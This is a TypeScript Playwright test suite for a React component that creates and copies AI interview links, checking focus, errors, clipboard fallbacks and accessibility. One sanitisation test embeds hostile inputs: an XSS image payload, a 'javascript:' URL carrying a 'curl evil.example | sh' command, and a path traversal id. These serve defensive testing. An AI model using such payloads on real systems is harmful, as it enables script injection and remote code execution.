import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openLinkStage } from './support/link-stage.ts';
import { faultsIn, forLooks, overflows } from './support/looks.ts';

let stage: Awaited<ReturnType<typeof openLinkStage>>;
beforeAll(async () => {
  stage = await openLinkStage();
});
afterAll(() => stage?.close());

const known = { candidate_name: 'Alex Morgan', job_title: 'Registered Nurse, Acute Ward' };
const link = {
  ...known,
  interview_id: 'one',
  candidate_email: 'alex.morgan@example.com',
  public_interview_url: `https://interviews.example.com/api/interviews/public/${'AQE3f0c2b8'.repeat(8)}/`,
  expires_at: '2099-11-27T21:00:00Z',
};
const one = { interviewId: 'one', initial: known, timeZone: 'Europe/Berlin' };

type Props = Parameters<Window['linkPage']['show']>[0];

const partsOf = (page: Page) => ({
  show: (props: Props) => page.evaluate((given) => window.linkPage.show(given), props),
  give: (call: number, answer: unknown) =>
    page.evaluate(([at, given]) => window.linkPage.calls[at]?.give(given), [call, answer] as const),
  fail: (call: number, kind: 'Error' | 'TypeError', message: string) =>
    page.evaluate(
      ([at, name, said]) => window.linkPage.calls[at]?.fail(new globalThis[name](said)),
      [call, kind, message] as const,
    ),
  calls: () =>
    page.evaluate(() =>
      window.linkPage.calls.map(({ id, aborted }) => ({ id, aborted: aborted() })),
    ),
  button: page.getByRole('button'),
  status: page.getByRole('status'),
  field: page.getByRole('textbox'),
  facts: page.locator('dl'),
  /** What the focus is on. */
  focus: () =>
    page.evaluate(() => document.activeElement?.textContent || document.activeElement?.tagName),
});

describe.each(['18', '19'] as const)('with React %s', (react) => {
  test('a link is made once and copied, by keyboard, and nothing moves or loses the focus', async () => {
    const { page, complaints } = await stage.visit(react, {
      permissions: ['clipboard-read', 'clipboard-write'],
    });
    const { show, give, calls, button, status, field, facts, focus } = partsOf(page);
    await page.clock.install();
    await page.clock.pauseAt(Date.now() + 60_000);
    await show(one);
    await button.waitFor();
    expect(await status.textContent()).toBe('');
    const place = await button.boundingBox();

    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Enter');
    await button.dblclick({ force: true });
    await page.locator('[aria-disabled=true]').waitFor();
    expect(await status.textContent()).toBe('');
    await page.clock.runFor(1_000);
    await status.getByText('up to 20 seconds').waitFor();
    expect(await button.innerText()).toBe('Generate AI interview link');
    expect(await button.boundingBox()).toEqual(place);
    expect(await calls()).toEqual([{ id: 'one', aborted: false }]);

    await give(0, link);
    await status.getByText('The link is made.').waitFor();
    expect(await focus()).toBe('Copy');
    expect(await facts.innerText()).toMatch(
      /Alex Morgan\s+Job\s+Registered Nurse, Acute Ward\s+Works until\s+Fri,? 27 Nov 2099, 22:00 CET/,
    );
    await page.keyboard.press('Enter');
    await status.getByText('Copied').waitFor();
    expect(await focus()).toBe('Copy');
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
      await field.inputValue(),
    );
    expect(await field.inputValue()).toBe(link.public_interview_url);
    expect(await page.evaluate(() => window.linkPage.told)).toEqual([link]);
    expect(complaints).toEqual([]);
    await page.context().close();
  });

  test('what went wrong is said in words for people, and it can be tried again', async () => {
    const { page, complaints } = await stage.visit(react, {
      viewport: { width: 1280, height: 800 },
    });
    const { show, give, fail, button, status, field } = partsOf(page);
    const sentence = 'Interview must have a scheduled start time to generate AI interview link';
    await show(one);
    await button.waitFor();
    const place = await button.boundingBox();

    await button.click();
    await fail(0, 'Error', sentence);
    await status.getByText(sentence).waitFor();
    expect(await button.innerText()).toBe('Try again');
    expect(await button.boundingBox()).toEqual(place);
    await button.click();
    await expect.poll(() => status.textContent()).toBe('');
    await fail(1, 'TypeError', 'Failed to fetch');
    await status.getByText('The link was not made. Try again in a moment.').waitFor();
    await button.click();
    await give(2, { error: 'An answer without a link' });
    await status.getByText('The link was not made. Try again in a moment.').waitFor();
    await button.click();
    await give(3, link);

    await field.waitFor();
    expect(complaints).toEqual([]);
    await page.context().close();
  });

  test('a browser that refuses to copy gets the link selected, and the keys are named', async () => {
    const { page, complaints } = await stage.visit(react, { origin: 'http://hr.example' });
    const { show, button, status, field } = partsOf(page);
    await show({ ...one, initial: link });

    await button.click();
    await status.getByText('Not copied. The link is selected: press Ctrl C').waitFor();

    const selected = await field.evaluate(
      (element: HTMLInputElement) =>
        document.activeElement === element &&
        element.value.slice(element.selectionStart ?? 0, element.selectionEnd ?? 0),
    );
    expect(selected).toBe(link.public_interview_url);
    expect(complaints).toEqual([]);
    await page.context().close();
  });

  test('a late answer counts for nobody else, and a newer link of the page replaces ours', async () => {
    const { page, complaints } = await stage.visit(react);
    const { show, give, calls, button, field, facts } = partsOf(page);
    await show(one);
    await button.click();
    await show({ interviewId: 'two', initial: { candidate_name: 'Kim Lee' } });
    await facts.getByText('Kim Lee').waitFor();
    await give(0, link);
    await button.click();
    await page.evaluate(() => window.linkPage.leave());
    await button.waitFor({ state: 'detached' });
    await give(1, link);

    expect(await calls()).toEqual([
      { id: 'one', aborted: true },
      { id: 'two', aborted: true },
    ]);
    await show({ interviewId: 'two', initial: { candidate_name: 'Kim Lee' } });
    await button.waitFor();
    expect(await field.count()).toBe(0);
    await button.click();
    await give(2, { ...link, candidate_name: 'Kim Lee' });
    await field.waitFor();
    await show({
      interviewId: 'two',
      initial: { ...link, public_interview_url: 'https://new.example/' },
    });
    await expect.poll(() => field.inputValue()).toBe('https://new.example/');
    expect(await page.evaluate(() => window.linkPage.told.length)).toBe(1);
    expect(complaints).toEqual([]);
    await page.context().close();
  });

  test('text of strangers is only text, however long, also from right to left', async () => {
    const { page, complaints } = await stage.visit(react, {
      permissions: ['clipboard-read', 'clipboard-write'],
      viewport: { width: 320, height: 800 },
    });
    const { show, button, status, field, facts } = partsOf(page);
    const html = '<img src=x onerror=alert(1)>\u202e';
    const initial = {
      candidate_name: html,
      job_title: { toString: 'no text' } as unknown as string,
      public_interview_url: 'javascript:alert(1)\n//curl evil.example | sh',
      expires_at: html,
    };
    await page.evaluate(() => {
      document.documentElement.dir = 'rtl';
    });
    await show({
      ...one,
      initial,
      locale: 'ar',
      timeZone: 'Nowhere/Land',
      labels: { copy: 'نسخ' },
    });

    await button.click();
    await status.getByText('Copied').waitFor();
    expect(await facts.innerText()).toContain(html);
    expect(await facts.locator('dt').count()).toBe(2);
    expect(await page.locator('#root :is(a, img, script)').count()).toBe(0);
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(
      await field.inputValue(),
    );
    expect(await field.inputValue()).toBe('javascript:alert(1)//curl evil.example | sh');
    const long = 'W'.repeat(20_000);
    for (const copy of [long, 'نسخ']) {
      await show({ ...one, initial, labels: { candidate: long, link: long, copied: long, copy } });
      await button.getByText(copy.slice(0, 9)).waitFor();
      expect(await overflows(page)).toBe(false);
    }
    await show({ ...one, interviewId: 'two', labels: { generate: long, candidate: long } });
    await button.getByText('WWW').waitFor();
    expect(await overflows(page)).toBe(false);
    expect(complaints).toEqual([]);
    await page.context().close();
  });

  test('the adapter of the README makes the guide’s usage work', async () => {
    const { page, complaints } = await stage.visit(react);
    const { button, status, field } = partsOf(page);
    const answers = [
      { status: 409, json: { error: 'This interview was cancelled', code: 'interview_cancelled' } },
      { status: 502, body: '<html>Bad gateway</html>' },
      { status: 200, json: link },
    ];
    const asked: unknown[] = [];
    await page.route('**/api/**', async (route) => {
      const request = route.request();
      const { pathname } = new URL(request.url());
      asked.push([request.method(), pathname, await request.headerValue('authorization')]);
      await route.fulfill(answers[asked.length - 1] ?? { status: 500 });
    });
    await page.evaluate(() => {
      localStorage.setItem('token', 'a-token');
      window.linkPage.showAdapted('one/../two');
    });

    await button.click();
    await status.getByText('This interview was cancelled').waitFor();
    await button.click();
    await status.getByText('The link was not made. Try again in a moment.').waitFor();
    await button.click();

    await expect.poll(() => field.inputValue()).toBe(link.public_interview_url);
    const path = '/api/ai-interview/generate-link/one%2F..%2Ftwo/';
    expect(asked).toEqual(answers.map(() => ['POST', path, 'Bearer a-token']));
    // Chromium itself says which requests were refused.
    expect(complaints.filter((text) => !text.includes('status of'))).toEqual([]);
    await page.context().close();
  });
});

test('neither the component’s style nor the page’s touches the other', async () => {
  const { page } = await stage.visit('19');
  const { show, button } = partsOf(page);
  await show({ ...one, initial: link });
  await button.waitFor();
  const looks = (selector: string) =>
    page.evaluate(
      (chosen) =>
        [...document.querySelectorAll(chosen)].map((element) => {
          const style = getComputedStyle(element);
          return [...style].map((name) => `${name}: ${style.getPropertyValue(name)}`).join('; ');
        }),
      selector,
    );
  const off = (name: string, disabled: boolean) =>
    page.evaluate(
      ([file, without]) => {
        for (const sheet of document.styleSheets) {
          if (sheet.href?.endsWith(file)) sheet.disabled = without;
        }
      },
      [name, disabled] as const,
    );
  await page.evaluate(() => {
    for (const name of ['fieldset', 'button', 'input', 'kbd', 'p', 'dl']) {
      document.querySelector('main')?.append(document.createElement(name));
    }
  });

  const guests = await looks('#root *');
  const own = await looks('main > :not(#root)');
  await off('/foreign.css', true);
  const alone = await looks('#root *');
  await off('/foreign.css', false);
  await off('/style.css', true);

  expect(guests.length).toBeGreaterThan(10);
  expect(guests).toEqual(alone);
  expect(await looks('main > :not(#root)')).toEqual(own);
  await page.context().close();
});

test('in forced colours, what is off and what has the focus are still seen', async () => {
  const { page } = await stage.visit('19', { forcedColors: 'active' });
  const { show, button } = partsOf(page);
  const look = () =>
    button.evaluate((element) => {
      const { color, borderTopWidth, outlineWidth, outlineStyle } = getComputedStyle(element);
      return { color, edge: borderTopWidth, ring: `${outlineWidth} ${outlineStyle}` };
    });
  await show(one);
  await page.keyboard.press('Tab');

  const on = await look();
  await page.keyboard.press('Enter');
  await page.locator('[aria-disabled=true]').waitFor();

  expect(on).toMatchObject({ edge: '2px', ring: '3px solid' });
  expect((await look()).color).not.toBe(on.color);
  await page.context().close();
});

test('where there is no mouse and the browser refuses to copy, a finger is told what to do', async () => {
  const { page } = await stage.visit('19', {
    origin: 'http://hr.example',
    isMobile: true,
    hasTouch: true,
  });
  const { show, button, status, field } = partsOf(page);
  await show({ ...one, initial: link });

  await button.tap();

  await status.getByText('The link is selected: hold it to copy it').waitFor();
  expect(Math.round((await button.boundingBox())?.height ?? 0)).toBeGreaterThanOrEqual(44);
  expect(await field.evaluate((element) => getComputedStyle(element).fontSize)).toBe('16px');
  await page.context().close();
});

test('the demonstration shows every state, under our policy, and axe finds nothing', async () => {
  const strict = await stage.visitDemo({});
  await strict.page.getByText('Questions and sound').waitFor();
  const examined = await stage.visitDemo(forLooks);
  const refused = examined.page.getByRole('region', { name: 'Copy refused' });
  await examined.page.getByText('Questions and sound').waitFor();
  await refused.getByRole('button').click();
  await refused.getByText('Not copied.').waitFor();

  expect(strict.complaints).toEqual([]);
  expect(await examined.page.getByRole('status').allInnerTexts()).toEqual([
    '',
    expect.stringContaining('up to 20 seconds'),
    '',
    'Copied',
    expect.stringContaining('The link is selected: press Ctrl C'),
    expect.stringContaining('scheduled start time'),
  ]);
  expect(await faultsIn(examined.page)).toEqual([]);
  await strict.page.context().close();
  await examined.page.context().close();
});
